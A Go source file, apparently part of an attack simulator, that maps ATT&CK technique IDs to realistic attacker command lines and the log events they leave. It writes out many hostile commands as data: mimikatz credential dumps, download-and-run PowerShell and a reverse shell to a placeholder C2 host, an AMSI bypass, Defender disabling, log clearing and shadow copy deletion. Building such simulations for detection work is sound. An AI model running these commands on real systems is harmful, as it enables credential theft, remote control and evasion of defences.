package technique

import (
	"time"

	"hemostat/sim/role"
	"hemostat/sim/world"
)

// further are more ways to do a technique, by its id: tools that reports and public
// tests of techniques name most. They stand between the loudest and the quieter ones.
var further = map[string][]variant{
	"T1003.001": {
		by("mimikatz", debugging(mimikatz, `mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`),
			open(world.Lsass, "0x1010", mimikatzTrace)),
		by("mimikatz tickets", debugging(mimikatz, `mimikatz.exe "privilege::debug" "sekurlsa::tickets /export" exit`),
			open(world.Lsass, "0x1010", mimikatzTrace),
			file(`C:\Users\Public\[0;3e7]-2-0-40e10000-{host}$@krbtgt-{netbios}.kirbi`)),
		by("task manager", under(world.Explorer, taskManager, `"C:\Windows\system32\taskmgr.exe" /4`),
			open(world.Lsass, "0x1fffff", dumpTrace), file(`C:\Users\{user}\AppData\Local\Temp\lsass.DMP`)),
		by("Invoke-Mimikatz", block(`Invoke-Mimikatz -DumpCreds`), open(world.Lsass, "0x1010", mimikatzTrace)),
		by("security package", registry(`HKLM\System\CurrentControlSet\Control\Lsa\Security Packages`,
			"kerberos msv1_0 schannel wdigest tspkg pku2u mimilib"), log("Security 4622", "SecurityPackageName", `C:\Windows\system32\mimilib.dll : KiwiSSP`), file(`C:\Windows\System32\kiwissp.log`)),
		by("passwords in clear",
			cmd(world.Reg, `reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f`)),
		by("rdrleakdiag", cmd(world.InSystem32("rdrleakdiag.exe", "RdrLeakDiag.exe",
			"Microsoft Windows Resource Leak Diagnostic"), `rdrleakdiag.exe /p 636 /o C:\Users\Public /fullmemdmp /wait 1`), open(world.Lsass, "0x1fffff", dumpTrace), file(`C:\Users\Public\minidump_636.dmp`)),
	},
	"T1003.002": {
		by("mimikatz", debugging(mimikatz, `mimikatz.exe "privilege::debug" "token::elevate" "lsadump::sam" exit`)),
		by("secretsdump", remoteRegistry, remoteFile(`\\*\ADMIN$`, `Temp\qXWpbLtr.tmp`)),
	},
	"T1003.003": {
		by("ntdsutil and dsrm", cmd(world.Ntdsutil, `ntdsutil "set dsrm password" "reset password on server null" q q`)),
	},
	"T1003.006": {
		by("lsadump::dcsync", cmd(mimikatz, `mimikatz.exe "lsadump::dcsync /domain:{domain} /user:krbtgt" exit`), replicate),
		by("DCShadow replication", cmd(mimikatz, `mimikatz.exe "lsadump::dcshadow /push" exit`), replicate, samPolicy),
	},
	"T1016": {
		by("firewall and routes", cmd(world.Netsh, `netsh advfirewall show allprofiles`),
			cmd(world.InSystem32("route.exe", "route.exe", "TCP/IP Route Command"), `route print`)),
		by("zone transfer", cmd(world.Nslookup, `nslookup -type=any -query=axfr {domain}`), atController("DNSServer 6004")),
	},
	"T1018": {
		by("net view", cmd(world.Net, `net view /domain`), cmd(world.Ping, `ping -n 1 -w 100 {dc}`)),
	},
	"T1021.001": {
		by("desktop switched on",
			cmd(world.Reg, `reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f`), cmd(world.Netsh, `netsh advfirewall firewall add rule name="Remote Desktop" dir=in protocol=TCP localport=3389 action=allow`)),
		by("through a tunnel", log("Security 4624", "LogonType", "10", "IpAddress", "127.0.0.1", "LogonProcessName",
			"User32 ", "TargetUserName", "{user}"), cmd(world.Dropped(`C:\Users\Public\plink.exe`,
			&plain), `plink.exe -R 4445:127.0.0.1:3389 -pw Summer2026 root@{c2ip}`)),
		by("shadowed session", cmd(world.Mstsc, `mstsc.exe /v:{dc} /shadow:2 /noconsentprompt /control`),
			registry(`HKLM\SOFTWARE\Policies\Microsoft\Windows NT\Terminal Services\Shadow`, "DWORD (0x00000004)")),
		by("taken over with tscon", asSystem(world.Services, world.Tscon, `tscon.exe 2 /dest:rdp-tcp#14`)),
	},
	"T1040": {
		by("pktmon", cmd(world.InSystem32("PktMon.exe", "PktMon.exe",
			"Monitor internal packet propagation and packet drop reports"), `pktmon.exe start --etw -f C:\Windows\Temp\t1040.etl`)),
		by("New-NetEventSession",
			powershell(`New-NetEventSession -Name Capture -LocalFilePath C:\Users\Public\c.etl; Add-NetEventPacketCaptureProvider -SessionName Capture; Start-NetEventSession -Name Capture`)),
		by("capture driver", cmd(world.Dropped(`C:\Users\Public\npcap-installer.exe`, &plain), `npcap-installer.exe /S`),
			log("Sysmon 6", "ImageLoaded", `C:\Windows\System32\drivers\npcap.sys`), log("System 7045", "ServiceName",
				"Npcap Packet Driver (NPCAP)", "ImagePath", `\SystemRoot\system32\DRIVERS\npcap.sys`, "ServiceType", "kernel mode driver")),
	},
	"T1059.001": {
		by("download and run",
			powershellPayload(`IEX (New-Object Net.WebClient).DownloadString('http://{c2}/Invoke-PowerShellTcp.ps1'); Invoke-PowerShellTcp -Reverse -IPAddress {c2ip} -Port 443`)),
		by("web request", powershell(`Invoke-WebRequest -Uri http://{c2}/a.ps1 -OutFile C:\Users\Public\a.ps1; powershell -ExecutionPolicy Bypass -File C:\Users\Public\a.ps1`)),
		by("stager", cmd(world.PowerShell, `powershell -noP -sta -w 1 -enc `+encoded(`If($PSVersionTable.PSVersion.Major -ge 3){$GPF=[ref].Assembly.GetType('System.Management.Automation.Utils')}`)),
			block(`[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)`)),
		by("older engine", cmd(world.PowerShell, `powershell.exe -version 2 -NoProfile -Command "Invoke-Expression (Get-Content C:\Users\Public\a.txt)"`), log("WindowsPowerShell 400", "Data", "Available, None, EngineVersion=2.0 HostApplication=powershell.exe -version 2")),
		by("library of tools",
			block(`Import-Module C:\Users\Public\PowerSploit.psm1; Invoke-Shellcode -Force; Get-Keystrokes; Invoke-PsExec`)),
		by("from the command interpreter",
			cmd(world.Cmd, `cmd.exe /c powershell -nop -w hidden -c "IEX(IWR http://{c2}/s)"`)),
	},
	"T1070.006": {
		by("file's time set", either(timestomp, sh(world.Touch, "touch -d 2018-01-01 /tmp/.agent"))),
		by("system's time set", either(powershell(`Set-Date -Date (Get-Date).AddDays(-3)`),
			sh(world.UnixProgram("/usr/bin/timedatectl"), "timedatectl set-time 2020-01-01")), either(log("Security 4616",
			"PreviousTime", "2026-03-03T08:00:00Z", "NewTime", "2026-02-28T08:00:00Z"), sh(world.UnixProgram("/bin/date"), "date -s 2020-01-01"))),
	},
	"T1027": {
		by("CrackMapExec", powershellPayload(`Invoke-Mimikatz -Command "privilege::debug sekurlsa::logonpasswords exit"`)),
		by("Invoke-Obfuscation",
			powershellPayload(`&("{1}{0}"-f'X','IE') (New-Object Net.WebClient).DownloadString('http://{c2}/s')`)),
	},
	"T1047": {
		by("wmic recon", cmd(world.Wmic, `wmic /node:{dc} process list brief`)),
		by("wmiexec", wmiexec),
	},
	"T1053.005": {
		by("ATexec", taskRun(`\kGVdbRuT`, world.Cmd, `cmd.exe /C tasklist > %windir%\Temp\kGVdbRuT.tmp 2>&1`)),
		by("at logon", cmd(world.Schtasks, `schtasks /create /tn "T1053_005_OnLogon" /sc onlogon /tr "cmd.exe /c calc.exe"`)),
		by("from a file", cmd(world.Schtasks, `schtasks.exe /Create /XML C:\Users\Public\task.xml /TN "EdgeUpdater" /F`)),
	},
	"T1055": {
		by("debugger", cmd(world.Dropped(`C:\Users\Public\mavinject.exe`, &plain),
			`mavinject.exe 4172 /INJECTRUNNING C:\Users\Public\a.dll`), load(`C:\Users\Public\a.dll`)),
	},
	"T1069.001": {
		by("net and whoami", cmd(world.Net, `net localgroup`), cmd(world.Net, `net localgroup "Remote Desktop Users"`),
			cmd(world.Whoami, `whoami /groups`)),
		by("Get-LocalGroupMember", powershell(`Get-LocalGroup | ForEach-Object { Get-LocalGroupMember -Name $_ }`)),
	},
	"T1069.002": {
		by("net group all", cmd(world.Net, `net group /domain`), cmd(world.Net, `net group "Schema Admins" /domain`),
			cmd(world.Net, `net user {user} /domain`), samPolicy),
		by("PowerView", block(`Get-NetGroup | Get-DomainGroupMember; Get-DomainGroup -AdminCount`)),
	},
	"T1087.001": {
		by("net and query", cmd(world.Net, `net user`), cmd(world.Net, `net user administrator`),
			cmd(world.Cmdkey, `cmdkey.exe /list`)),
	},
	"T1087.002": {
		by("setspn", cmd(setspn, `setspn.exe -T {domain} -Q */*`)),
		by("PowerView", block(`Get-NetUser | Select samaccountname; Get-DomainUser -SPN`)),
		by("net user", cmd(world.Net, `net user /domain`), cmd(world.Net, `net user administrator /domain`), samPolicy),
	},
	"T1098": {
		by("service principal name", cmd(setspn, `setspn.exe -A MSSQLSvc/{dc}:1433 svc_web`),
			cmd(setspn, `setspn.exe -Q MSSQLSvc/{dc}:1433`), directory("user", "servicePrincipalName",
				"MSSQLSvc/{dc}:1433"), userChanged()),
		by("no preauthentication", powershell(`Set-ADAccountControl -Identity svc_web -DoesNotRequirePreAuth $true`),
			userChanged("OldUacValue", "0x210", "NewUacValue", "0x10210", "UserAccountControl",
				"\r\n\t\t%%2096"), directory("user", "userAccountControl", "4260352")),
		by("weak encryption", userChanged("OldUacValue", "0x210", "NewUacValue", "0x8210", "UserAccountControl",
			"\r\n\t\t%%2095")),
		by("domain administrators", cmd(world.Net, `net group "Domain Admins" {user} /add /domain`), member("Domain Admins")),
		by("forest administrators", member("Enterprise Admins")),
		by("rights on the domain", directory("domainDNS", "nTSecurityDescriptor",
			`O:BAG:BAD:AI(OA;;CR;1131f6ad-9c07-11d1-f79f-00c04fc2dcd2;;S-1-5-21-1-1001)`)),
		by("delegation", userChanged("AllowedToDelegateTo", "cifs/{dc}"),
			directory("user", "msDS-AllowedToDelegateTo", "cifs/{dc}")),
		by("password reset", passwordReset),
		by("renamed", atController("Security 4781", "OldTargetUserName", "svc_web", "NewTargetUserName", "admin_backup"),
			userChanged("SamAccountName", "admin_backup")),
		by("computer's names", atController("Security 4742", "ServicePrincipalNames",
			"\r\n\t\tGC/{dc}\r\n\t\tE3514235-4B06-11D1-AB04-00C04FC2DCD2/x"), directory("computer", "servicePrincipalName", "GC/{dc}")),
		by("logon right", log("Security 4717", "AccessGranted", "SeRemoteInteractiveLogonRight"),
			log("Security 4704", "PrivilegeList", "SeDebugPrivilege")),
		by("database role", atDatabase("audit_schema_version:1, action_id:APRL, succeeded:true, server_principal_name:sa, database_principal_name:svc_web, object_name:sysadmin, statement:ALTER SERVER ROLE [sysadmin] ADD MEMBER [svc_web]")),
	},
	"T1110.003": {
		by("database logins", sqlLogins),
		by("Kerberos names", kerberosNames),
	},
	"T1112": {
		by("DAMP", powershell(`Add-RemoteRegBackdoor -ComputerName {dc} -Trustee {netbios}\{user}`),
			registry(`HKLM\System\CurrentControlSet\Control\SecurePipeServers\winreg\RemoteRegAccess`, "Binary Data")),
		by("classes and policies",
			cmd(world.Reg, `reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System" /v EnableLUA /t REG_DWORD /d 0 /f`)),
		by("with PowerShell",
			powershell(`Set-ItemProperty -Path HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System -Name ConsentPromptBehaviorAdmin -Value 0`)),
	},
	"T1134.001": {
		by("runas", cmd(runas, `runas /user:{netbios}\svc_backup cmd.exe`)),
		by("runas netonly", cmd(runas, `runas /netonly /user:{netbios}\da1 cmd.exe`)),
		by("granted rights", log("Security 4717", "AccessGranted", "SeServiceLogonRight"),
			log("Security 4718", "AccessRemoved", "SeDenyNetworkLogonRight"), log("Security 4704", "PrivilegeList",
				"SeTcbPrivilege")),
		by("made by hand", cmd(world.Dropped(`C:\Users\Public\incognito.exe`, &plain),
			`incognito.exe execute -c "{netbios}\da1" cmd.exe`), log("Security 4624", "LogonType", "9", "LogonProcessName", "Advapi  ", "AuthenticationPackageName", "Negotiate", "ImpersonationLevel", "%%1833")),
		by("Invoke-TokenManipulation", block(`Invoke-TokenManipulation -ImpersonateUser -Username "nt authority\system"`)),
		by("token::elevate", debugging(mimikatz, `mimikatz.exe "privilege::debug" "token::elevate" exit`)),
	},
	"T1136.001": {
		by("New-LocalUser", powershell(`New-LocalUser -Name "support2" -NoPassword`),
			powershell(`Add-LocalGroupMember -Group "Administrators" -Member "support2"`)),
		by("net and group", cmd(world.Net, `net user support Passw0rd! /add`),
			cmd(world.Net, `net localgroup administrators support /add`)),
		by("server login", atDatabase("audit_schema_version:1, action_id:CR, succeeded:true, server_principal_name:sa, object_name:support, statement:CREATE LOGIN [support] WITH PASSWORD=N'******'")),
	},
	"T1136.002": {
		by("computer account", atController("Security 4741", "TargetUserName", "DESKTOP-7QZ$", "SamAccountName",
			"DESKTOP-7QZ$", "DnsHostName", "DESKTOP-7QZ.{domain}"), atController("Security 5137", "ObjectClass", "computer", "ObjectDN", "CN=DESKTOP-7QZ,CN=Computers,{dn}")),
		by("net group", cmd(world.Net, `net user backupsvc Passw0rd! /add /domain`), newDomainUser("backupsvc"),
			member("Domain Admins")),
		by("short-lived", newDomainUser("tmpsvc"), atController("Security 4726", "TargetUserName", "tmpsvc")),
	},
	"T1197": {
		by("odd file", cmd(world.Bitsadmin, `bitsadmin.exe /transfer backdoor /download /priority high http://{c2ip}/payload.bat C:\Users\Public\payload.bat`)),
		by("resume and complete", cmd(world.Bitsadmin, `bitsadmin.exe /create AtomicBITS`),
			cmd(world.Bitsadmin,
				`bitsadmin.exe /addfile AtomicBITS http://{c2}/a.exe C:\Users\Public\a.exe`), cmd(world.Bitsadmin, `bitsadmin.exe /resume AtomicBITS`), cmd(world.Bitsadmin, `bitsadmin.exe /complete AtomicBITS`)),
	},
	"T1201": {
		by("net accounts", cmd(world.Net, `net accounts`), cmd(world.Net, `net accounts /domain`), samPolicy),
		by("secedit", cmd(world.InSystem32("SecEdit.exe", "SeCEdit", "Windows Security Configuration Editor Command Tool"),
			`secedit.exe /export /areas SECURITYPOLICY /cfg C:\Users\Public\output_mysecpol.txt`)),
	},
	"T1222.001": {
		by("rights on an organisational unit", directory("organizationalUnit", "nTSecurityDescriptor",
			`D:AI(A;CI;GA;;;S-1-5-21-1-1001)`)),
		by("attrib and icacls", cmd(world.Attrib, `attrib.exe -r C:\Windows\System32\drivers\etc\hosts`),
			cmd(world.Icacls, `icacls "C:\Windows\System32\utilman.exe" /grant Everyone:F /T /C /Q`)),
	},
	"T1490": {
		by("wbadmin", cmd(world.Wbadmin, `wbadmin.exe delete systemstatebackup -keepVersions:0`),
			cmd(world.Wbadmin, `wbadmin.exe delete catalog -quiet`)),
		by("PowerShell", powershell(`Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}`)),
		by("storage resized", cmd(world.Vssadmin, `vssadmin.exe resize shadowstorage /for=C: /on=C: /maxsize=401MB`),
			cmd(world.Bcdedit, `bcdedit.exe /set {default} recoveryenabled no`)),
	},
	"T1543.003": {
		by("sc config", cmd(world.Sc, `sc.exe config Fax binPath= "C:\windows\system32\WindowsPowerShell\v1.0\powershell.exe -noexit -c \"write-host 'T1543.003 Test'\""`), cmd(world.Sc, `sc.exe start Fax`)),
		by("open to all", cmd(world.Sc, `sc sdset scmanager D:(A;;KA;;;WD)`),
			cmd(world.Sc, `sc.exe sdset WinUpd "D:(A;;CCLCSWRPWPDTLOCRRC;;;SY)(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;BA)"`)),
		by("on failure", cmd(world.Sc, `sc.exe failure Fax command= "\"C:\Users\Public\agent.exe\"" reset= 0 actions= run/1`)),
		by("driver of a tool", registry(`HKLM\System\CurrentControlSet\Services\mimidrv\ImagePath`,
			`\??\C:\Users\Public\mimidrv.sys`), installService("mimikatz driver (mimidrv)", `C:\Users\Public\mimidrv.sys`)),
	},
	"T1546.008": {
		by("used at the logon screen", asSystem(world.Winlogon, world.Sethc.Renamed(`C:\Windows\System32\sethc.exe`),
			`sethc.exe 211`), asSystem(world.Winlogon, world.Cmd, `"C:\Windows\System32\cmd.exe" sethc.exe 211`)),
	},
	"T1547.001": {
		by("run once", cmd(world.Reg, `reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnceEx\0001\Depend /v 1 /d "C:\Users\Public\agent.dll"`)),
		by("PowerShell", powershell(`Set-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name Updater -Value C:\Users\Public\agent.exe`)),
		by("policies", registry(`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\Explorer\Run\Updater`,
			`C:\Users\Public\agent.exe`)),
	},
	"T1552.004": {
		by("exported certificates",
			cmd(mimikatz, `mimikatz.exe "crypto::capi" "crypto::certificates /systemstore:local_machine /export" exit`), log("CAPI2 70"), file(`C:\Users\Public\CURRENT_USER_My_0_.pfx`)),
		by("Export-PfxCertificate",
			powershell(`Get-ChildItem Cert:\LocalMachine\My | Export-PfxCertificate -FilePath C:\Users\Public\c.pfx -Password $pwd`)),
	},
	"T1558.003": {
		by("setspn and Rubeus", cmd(setspn, `setspn -T {domain} -Q */*`),
			cmd(rubeus, `Rubeus.exe kerberoast /outfile:C:\Users\Public\h.txt`)),
	},
	"T1569.002": {
		by("remote service by pipe", remoteFile(`\\*\IPC$`, "svcctl"),
			installService("tchopper",
				`%COMSPEC% /Q /c echo whoami ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat`), asSystem(world.Services, world.Cmd, `C:\Windows\system32\cmd.exe /Q /c echo whoami ^> \\127.0.0.1\C$\__output 2^>^&1 > C:\Windows\TEMP\execute.bat`), log("System 7009", "param2", "tchopper"), log("System 7000", "param1", "tchopper")),
	},
	"T1572": {
		by("netsh RDP forward",
			cmd(world.Netsh, `netsh interface portproxy add v4tov4 listenport=4433 listenaddress=10.20.0.9 connectport=3389 connectaddress=10.30.0.20`)),
	},
	"T1574.001": {
		by("DNS server's plug-in", cmd(dnscmd, `dnscmd.exe {dc} /config /serverlevelplugindll \\{dc}\share\mimilib.dll`)),
		by("print spooler's driver", asSystem(world.Spoolsv, world.Cmd, `C:\Windows\System32\cmd.exe`),
			log("PrintService 316", "Param1", "1234", "Param5", "kernelbase.dll"), log("PrintAdmin 808", "PluginDllName",
				`C:\Windows\system32\spool\DRIVERS\x64\3\mimispool.dll`), file(`C:\Windows\System32\spool\drivers\x64\3\mimispool.dll`)),
	},
	"T1685": {
		by("exclusion", powershell(`Add-MpPreference -ExclusionPath C:\Users\Public -Force`)),
		by("startup type", cmd(world.Sc, `sc.exe config WinDefend start= disabled`), cmd(world.Sc, `sc.exe stop WinDefend`)),
		by("fltmc unload", cmd(world.InSystem32("fltMC.exe", "fltMC.exe", "Filter Manager Control Program"),
			`fltmc.exe unload SysmonDrv`)),
	},
	"T1685.001": {
		by("all categories", cmd(world.Auditpol, `auditpol /clear /y`), cmd(world.Auditpol, `auditpol /remove /allusers`)),
		by("database audit",
			atDatabase("audit_schema_version:1, action_id:AL, succeeded:true, object_name:Audit, statement:ALTER SERVER AUDIT [Audit] WITH (STATE = OFF)"), atDatabase("audit_schema_version:1, action_id:DR, succeeded:true, statement:DROP SERVER AUDIT [Audit]")),
		by("log switched off", cmd(world.Wevtutil, `wevtutil sl Security /e:false`),
			cmd(world.Sc, `sc.exe config eventlog start= disabled`)),
	},
	"T1685.005": {
		by("wmic", cmd(world.Wmic, `wmic nteventlog where filename='security' cl`)),
		by("all logs", powershell(`Get-EventLog -List | ForEach-Object { Clear-EventLog -LogName $_.Log }`),
			cmd(world.Wevtutil, `wevtutil cl Application`), cmd(world.Wevtutil,
				`wevtutil.exe cl "Microsoft-Windows-Sysmon/Operational"`), cmd(world.Wevtutil, `wevtutil cl Security`)),
	},
	"T1686": {
		by("firewall by PowerShell", powershell(`Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False`),
			log("Firewall 2003"), log("Security 4950")),
		by("port opened", cmd(world.Netsh, `netsh advfirewall firewall add rule name="Remote Desktop" dir=in protocol=TCP localport=3389 action=allow`)),
		by("rule deleted", cmd(world.Netsh, `netsh advfirewall firewall delete rule name="Block SMB"`),
			log("Firewall 2006", "RuleName", "Block SMB")),
	},
}

var (
	setspn      = world.InSystem32("setspn.exe", "setspn.exe", "Query or reset the computer's SPN attribute")
	runas       = world.InSystem32("runas.exe", "RUNAS.EXE", "Run As Utility")
	dnscmd      = world.InSystem32("dnscmd.exe", "dnscmd.exe", "Microsoft DNS Server Command Line Administration Tool")
	taskManager = world.InSystem32("Taskmgr.exe", "Taskmgr.exe", "Task Manager")
)

const mimikatzTrace = `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Users\Public\mimikatz.exe+c5dc6|C:\Users\Public\mimikatz.exe+c615d`

// playFurther plays the moves of a further tool and tells whether the attempt has one.
func (a *Attempt) playFurther(f *Foothold) (world.Refusal, bool) {
	for _, v := range further[a.Technique.ID] {
		if v.name == a.Tool {
			return a.play(f, v.moves), true
		}
	}
	return world.Refusal{}, false
}

// play makes moves one after another until one is refused.
func (a *Attempt) play(f *Foothold, moves []move) world.Refusal {
	for _, m := range moves {
		if r := m.do(a, f); !r.OK() {
			return r
		}
		a.Now += time.Second + time.Duration(a.Rand.IntN(2000))*time.Millisecond
	}
	return world.Refusal{}
}

// debugging runs a program that asks for the right to debug others (Security 4673, 4703).
func debugging(b *world.Binary, line string) move {
	return move{"windows/sysmon 1", func(a *Attempt, f *Foothold) world.Refusal {
		a.Process = a.start(f, b, a.text(f, line))
		a.World.Log(a.Now, a.Actor, a.Process, "Security 4673", "Service", "LsaRegisterLogonProcess()", "PrivilegeList",
			"SeDebugPrivilege")
		a.World.Log(a.Now, a.Actor, a.Process, "Security 4703", "EnabledPrivilegeList", "SeDebugPrivilege")
		return world.Refusal{}
	}}
}

// directory writes an attribute of an object of the directory, as a domain administrator.
func directory(class, attribute, value string) move {
	return move{"windows/security 5136", func(a *Attempt, f *Foothold) world.Refusal {
		if dc := a.World.DomainController(f.Host); dc != nil {
			dn := a.text(f, "CN=svc_web,CN=Users,{dn}")
			if class == "domainDNS" {
				dn = a.text(f, "{dn}")
			}
			a.World.ChangeDirectory(a.Now, a.Actor, dc, a.domainAdmin(), class, dn, attribute, a.text(f, value))
		}
		return world.Refusal{}
	}}
}

// userChanged is an account of the domain changed, with the fields that change.
func userChanged(changes ...string) move {
	return move{"windows/security 4738", func(a *Attempt, f *Foothold) world.Refusal {
		if dc := a.World.DomainController(f.Host); dc != nil {
			a.World.ChangeUser(a.Now, a.Actor, dc, a.domainAdmin(), "svc_web", a.texts(f, changes)...)
		}
		return world.Refusal{}
	}}
}

// member makes the user a member of a group of the domain.
func member(group string) move {
	return move{"windows/security 4728", func(a *Attempt, f *Foothold) world.Refusal {
		if dc := a.World.DomainController(f.Host); dc != nil {
			a.World.AddMember(a.Now, a.Actor, dc, a.domainAdmin(), a.text(f, "{user}"), group)
		}
		return world.Refusal{}
	}}
}

var passwordReset = move{"windows/security 4724", func(a *Attempt, f *Foothold) world.Refusal {
	if dc := a.World.DomainController(f.Host); dc != nil {
		a.World.SetPassword(a.Now, a.Actor, dc, a.domainAdmin(), "svc_web")
	}
	return world.Refusal{}
}}

// remoteFile opens a file or pipe on a share of the domain controller.
func remoteFile(share, name string) move {
	return move{"windows/security 5145, zeek/smb_files", func(a *Attempt, f *Foothold) world.Refusal {
		dc := a.World.DomainController(f.Host)
		if dc == nil || f.Account == nil {
			return world.Refusal{}
		}
		if r := a.World.Reach(world.At(f.Host), world.At(dc), 445); r.ByDefence() {
			return r
		}
		a.World.OpenShare(a.Now, a.Actor, world.At(f.Host), dc, f.Account, share)
		a.World.AccessShareFile(a.Now, a.Actor, world.At(f.Host), dc, f.Account, share, name, true)
		return world.Refusal{}
	}}
}

// atDatabase is a line of a database server's audit (MSSQLSERVER 33205).
func atDatabase(data string) move {
	return move{"windows/application 33205", func(a *Attempt, f *Foothold) world.Refusal {
		if servers := a.World.WithRole(role.DatabaseServer); len(servers) > 0 {
			a.World.LogBy(a.Now, a.Actor, servers[0], nil, "Application 33205", "Data", a.text(f, data))
		}
		return world.Refusal{}
	}}
}

// powershellPayload is a script handed over encoded, as tools for many hosts do.
func powershellPayload(script string) move {
	return move{"windows/sysmon 1, windows/powershell 4103 4104", func(a *Attempt, f *Foothold) world.Refusal {
		text := a.text(f, script)
		p := a.start(f, world.PowerShell, "powershell.exe -exec bypass -noni -nop -w 1 -enc "+encoded(text))
		a.World.RunScript(a.Now+time.Second, a.Actor, p, text)
		return world.Refusal{}
	}}
}

// sqlLogins are failed logons to a database server (MSSQLSERVER 18456), and one that works.
var sqlLogins = move{"windows/application 18456", func(a *Attempt, f *Foothold) world.Refusal {
	servers := a.World.WithRole(role.DatabaseServer)
	if len(servers) == 0 {
		return world.Refusal{}
	}
	h := servers[0]
	if r := a.World.Reach(world.At(f.Host), world.At(h), 1433); !r.OK() {
		return r
	}
	for range 12 {
		a.Now += 700 * time.Millisecond
		a.World.LogBy(a.Now, a.Actor, h, nil, "Application 18456", "Data",
			"sa, Reason: Password did not match that for the login provided., [CLIENT: "+f.Host.IP+"]")
	}
	a.World.LogBy(a.Now, a.Actor, h, nil, "Application 18454", "Data", "sa, [CLIENT: "+f.Host.IP+"]")
	return world.Refusal{}
}}

// kerberosNames asks the controller for tickets of names that may exist (4768 with status
// 0x6) and of those that do with one password (4771).
var kerberosNames = move{"windows/security 4768 4771", func(a *Attempt, f *Foothold) world.Refusal {
	dc := a.World.DomainController(f.Host)
	if dc == nil {
		return world.Refusal{}
	}
	if r := a.World.Reach(world.At(f.Host), world.At(dc), 88); !r.OK() {
		return r
	}
	for _, name := range []string{"admin", "administrator", "test", "backup", "sql", "guest", "svc", "oracle", "scanner",
		"helpdesk", "root", "print"} {
		a.Now += 200 * time.Millisecond
		a.World.LogBy(a.Now, a.Actor, dc, nil, "Security 4768", "TargetUserName", name, "TargetSid", "S-1-0-0", "Status",
			"0x6", "TicketEncryptionType", "0xffffffff", "IpAddress", "::ffff:"+f.Host.IP)
		a.World.LogBy(a.Now, a.Actor, dc, nil, "Security 4771", "TargetUserName", name, "IpAddress", "::ffff:"+f.Host.IP)
	}
	return world.Refusal{}
}}

// timestomp is a file whose creation time a program sets (Sysmon 2).
var timestomp = move{"windows/sysmon 2", func(a *Attempt, f *Foothold) world.Refusal {
	p := a.start(f, world.Dropped(`C:\Users\Public\timestomp.exe`, &a.Rand),
		`timestomp.exe C:\Users\Public\agent.exe -c "01/01/2018 08:00:00"`)
	a.World.Log(a.Now, a.Actor, p, "Sysmon 2", "TargetFilename", `C:\Users\Public\agent.exe`, "CreationUtcTime",
		"2018-01-01 08:00:00.000")
	return world.Refusal{}
}}

// remoteRegistry reaches the registry of the controller by its pipe.
var remoteRegistry = remoteFile(`\\*\IPC$`, "winreg")

// taskRun registers a task, lets it run at once and removes it.
func taskRun(name string, b *world.Binary, line string) move {
	return move{"windows/security 4698 4699, windows/taskscheduler", func(a *Attempt, f *Foothold) world.Refusal {
		t := world.Task{Name: name, Command: "cmd.exe", Arguments: line[len("cmd.exe "):]}
		a.World.CreateTask(a.Now, a.Actor, f.Host, f.Account, t)
		a.Process = a.World.RunTask(a.Now+time.Second, a.Actor, f.Host, nil, t, b)
		a.World.DeleteTask(a.Now+3*time.Second, a.Actor, f.Host, f.Account, t)
		return world.Refusal{}
	}}
}

// wmiexec is a half-interactive shell on the controller through WMI, its output read from a
// share.
var wmiexec = move{"windows/security 4688 5145, windows/sysmon 1", func(a *Attempt, f *Foothold) world.Refusal {
	dc := a.World.DomainController(f.Host)
	if dc == nil || f.Account == nil {
		return world.Refusal{}
	}
	if r := a.World.Reach(world.At(f.Host), world.At(dc), 135); r.ByDefence() {
		return r
	}
	who := a.domainAdmin()
	if who == nil {
		return world.Refusal{}
	}
	_, _ = a.World.LogOn(a.Now, a.Actor, world.Logon{From: world.At(f.Host), To: dc, Account: who,
		Type: world.LogonNetwork, NTLM: true, Generation: who.Generation})
	parent := dc.System(world.WmiPrvSE, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`)
	for _, order := range []string{"cd \\ ", "whoami"} {
		a.Now += time.Second
		a.World.StartProcess(a.Now, a.Actor, world.Start{Host: dc, Account: who, Binary: world.Cmd, Integrity: "High",
			Parent:      parent,
			CommandLine: `cmd.exe /Q /c ` + order + ` 1> \\127.0.0.1\ADMIN$\__1622547932.41 2>&1`})
		a.World.AccessShareFile(a.Now, a.Actor, world.At(f.Host), dc, who, `\\*\ADMIN$`, "__1622547932.41", true)
	}
	return world.Refusal{}
}}
